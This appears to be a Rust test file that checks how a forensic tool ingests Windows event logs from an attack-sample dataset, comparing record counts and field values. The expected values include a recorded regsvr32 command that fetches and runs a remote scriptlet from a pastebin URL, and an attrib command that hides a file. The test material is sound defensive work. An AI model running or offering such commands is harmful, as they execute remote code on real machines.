//! Ingest of the real Windows event logs under `../shared/data/real/evtx`:
//! every file reads, record counts match the `evtx` crate's own `evtx_dump`,
//! and the System and event data fields are present where records carry them.

mod common;

use std::path::Path;

use argus::event::Event;
use argus::evidence::EvidenceStore;

/// Records per file, counted with `evtx_dump -o jsonl FILE | wc -l` from the
/// `evtx` crate 0.15.1 (`cargo install evtx --locked`).
const RECORD_COUNTS: &[(&str, usize)] = &[
    ("Command and Control/DE_RDP_Tunneling_TerminalServices-RemoteConnectionManagerOperational_1149.evtx", 228),
    ("Command and Control/bits_openvpn.evtx", 1537),
    ("Credential Access/LsassSilentProcessExit_process_exit_monitor_3001_lsass.evtx", 2),
    ("Credential Access/kerberos_pwd_spray_4771.evtx", 12),
    ("Defense Evasion/DE_ProcessHerpaderping_Sysmon_11_10_1_7.evtx", 4),
    ("Defense Evasion/de_hiding_files_via_attrib_cmdlet.evtx", 1),
    ("Discovery/4799_remote_local_groups_enumeration.evtx", 5),
    ("Discovery/discovery_bloodhound.evtx", 10),
    ("Execution/exec_msxsl_xsl_sysmon_1_7.evtx", 3),
    ("Execution/exec_sysmon_lobin_regsvr32_sct.evtx", 3),
    ("Lateral Movement/LM_dcom_shwnd_shbrwnd_mmc20_failed_traces_system_10016.evtx", 4),
    ("Lateral Movement/lm_sysmon_18_remshell_over_namedpipe.evtx", 7),
    ("Persistence/persist_bitsadmin_Microsoft-Windows-Bits-Client-Operational.evtx", 6),
    ("Persistence/persistence_security_dcshadow_4742.evtx", 10),
    ("Privilege Escalation/Sysmon_UACME_38.evtx", 8),
    ("Privilege Escalation/privesc_spoolsv_spl_file_write_sysmon11.evtx", 37),
];

/// (file, field, records carrying the field, one value it takes), counted
/// with `evtx_dump -o jsonl FILE | grep -c '"FIELD":'` and read off the same
/// output.
const FIELD_COUNTS: &[(&str, &str, usize, &str)] = &[
    ("Defense Evasion/de_hiding_files_via_attrib_cmdlet.evtx", "Image", 1, r"C:\Windows\System32\attrib.exe"),
    ("Defense Evasion/de_hiding_files_via_attrib_cmdlet.evtx", "CommandLine", 1, "attrib  +h nbtscan.exe"),
    ("Defense Evasion/de_hiding_files_via_attrib_cmdlet.evtx", "ParentImage", 1, r"C:\Windows\System32\cmd.exe"),
    ("Execution/exec_sysmon_lobin_regsvr32_sct.evtx", "CommandLine", 2,
        "regsvr32.exe  /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll"),
    ("Execution/exec_sysmon_lobin_regsvr32_sct.evtx", "DestinationIp", 1, "104.20.208.21"),
    ("Privilege Escalation/privesc_spoolsv_spl_file_write_sysmon11.evtx", "Image", 35,
        r"C:\Windows\System32\spoolsv.exe"),
    ("Privilege Escalation/privesc_spoolsv_spl_file_write_sysmon11.evtx", "TargetFilename", 23,
        r"C:\Windows\Temp\__SKIP_1E14"),
    ("Privilege Escalation/Sysmon_UACME_38.evtx", "TargetFilename", 1,
        r"C:\Users\IEUser\AppData\Local\Temp\Fubuki.exe"),
    ("Privilege Escalation/Sysmon_UACME_38.evtx", "DestinationIp", 1, "185.199.111.153"),
    ("Credential Access/kerberos_pwd_spray_4771.evtx", "TargetUserName", 11, "HD01"),
    ("Credential Access/kerberos_pwd_spray_4771.evtx", "IpAddress", 11, "172.16.66.1"),
    ("Discovery/discovery_bloodhound.evtx", "IpAddress", 9, "10.0.2.18"),
    ("Discovery/4799_remote_local_groups_enumeration.evtx", "TargetUserName", 5, "Administrators"),
    ("Lateral Movement/lm_sysmon_18_remshell_over_namedpipe.evtx", "ParentImage", 3,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
    ("Persistence/persistence_security_dcshadow_4742.evtx", "TargetUserName", 3, "ALICE$"),
];

fn ingest(path: &Path) -> Vec<Event> {
    let mut store = EvidenceStore::new();
    let summary = store.ingest_path(path).expect("evtx file ingests");
    assert!(summary.skipped.is_empty(), "{}: {:?}", path.display(), summary.skipped);
    store.events().to_vec()
}

fn field<'a>(event: &'a Event, name: &str) -> Option<&'a str> {
    event.fields.get(name).and_then(|value| value.first())
}

#[test]
fn evtx_record_counts_match_evtx_dump() {
    let Some(root) = common::shared_data("real/evtx") else { return };
    for (file, expected) in RECORD_COUNTS {
        let events = ingest(&root.join(file));
        assert_eq!(events.len(), *expected, "{file}");
    }
}

#[test]
fn evtx_folder_ingests_every_file() {
    let Some(root) = common::shared_data("real/evtx") else { return };
    let mut store = EvidenceStore::new();
    let summary = store.ingest_path(&root).unwrap();
    let total: usize = RECORD_COUNTS.iter().map(|(_, n)| n).sum();
    assert_eq!(summary.events, total);
    assert_eq!(summary.files_read, RECORD_COUNTS.len());
    // The folder also holds the data's licence text, which is no log.
    assert_eq!(summary.skipped.len(), 1, "{:?}", summary.skipped);
    assert!(summary.skipped[0].path.ends_with("LICENSE.GPL"));
}

#[test]
fn evtx_system_fields_on_every_event() {
    let Some(root) = common::shared_data("real/evtx") else { return };
    for (file, _) in RECORD_COUNTS {
        for event in ingest(&root.join(file)) {
            for name in ["EventID", "EventCode", "Channel", "Computer", "Provider", "TimeCreated"] {
                assert!(field(&event, name).is_some(), "{file}: no {name} in {}", event.raw);
            }
            assert_eq!(field(&event, "EventCode"), field(&event, "EventID"), "{file}");
            assert_eq!(Some(event.host.as_str()), field(&event, "Computer"), "{file}");
            let channel = field(&event, "Channel").unwrap();
            assert_eq!(event.sourcetype, format!("XmlWinEventLog:{channel}"), "{file}");
        }
    }
}

#[test]
fn evtx_sysmon_sourcetype_follows_splunk() {
    let Some(root) = common::shared_data("real/evtx") else { return };
    let events = ingest(&root.join("Execution/exec_sysmon_lobin_regsvr32_sct.evtx"));
    let sysmon = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational";
    assert!(events.iter().all(|e| e.sourcetype == sysmon));
    assert!(events.iter().all(|e| e.host == "IEWIN7"));
}

#[test]
fn evtx_event_data_fields_present() {
    let Some(root) = common::shared_data("real/evtx") else { return };
    for (file, name, count, value) in FIELD_COUNTS {
        let events = ingest(&root.join(file));
        let carrying = events.iter().filter(|e| field(e, name).is_some()).count();
        assert_eq!(carrying, *count, "{file}: events with {name}");
        let found = events.iter().any(|e| field(e, name) == Some(value));
        assert!(found, "{file}: no event with {name}={value}");
    }
}

#[test]
fn evtx_time_is_time_created() {
    let Some(root) = common::shared_data("real/evtx") else { return };
    let events = ingest(&root.join("Defense Evasion/de_hiding_files_via_attrib_cmdlet.evtx"));
    // TimeCreated 2019-05-19T17:32:00.4829823Z: 1558287120 s after the epoch.
    assert_eq!(events[0].time, 1_558_287_120_482_982);
}

#[test]
fn evtx_gzip_ingests_like_plain() {
    use std::io::Write;
    let Some(root) = common::shared_data("real/evtx") else { return };
    let path = root.join("Execution/exec_msxsl_xsl_sysmon_1_7.evtx");
    let bytes = std::fs::read(&path).unwrap();
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(&bytes).unwrap();
    let packed = encoder.finish().unwrap();

    let mut store = EvidenceStore::new();
    let summary = store.ingest_bytes("logs.bin", &packed, None);
    assert_eq!(summary.events, 3);
    assert!(store.events().iter().all(|e| e.host == "IEWIN7"));
}

#[test]
fn evtx_index_events_equal_store_events() {
    use argus::index::EvidenceIndex;
    let Some(root) = common::shared_data("real/evtx") else { return };
    let mut store = EvidenceStore::new();
    store.ingest_path(&root).unwrap();
    let mut index = EvidenceIndex::in_memory();
    index.ingest_path(&root).unwrap();

    let all: Vec<Option<Vec<u32>>> = index.files().map(|_| None).collect();
    let indexed = index.materialize(&all);
    let total: usize = RECORD_COUNTS.iter().map(|(_, n)| n).sum();
    assert_eq!(indexed.len(), total);
    assert_eq!(store.events().len(), total);
    for (from_index, from_store) in indexed.iter().zip(store.events()) {
        assert_eq!(from_index.time, from_store.time, "{}", from_store.raw);
        assert_eq!(from_index.host, from_store.host, "{}", from_store.raw);
        assert_eq!(from_index.sourcetype, from_store.sourcetype, "{}", from_store.raw);
        assert_eq!(from_index.source, from_store.source, "{}", from_store.raw);
        assert_eq!(from_index.fields, from_store.fields, "{}", from_store.raw);
    }
}
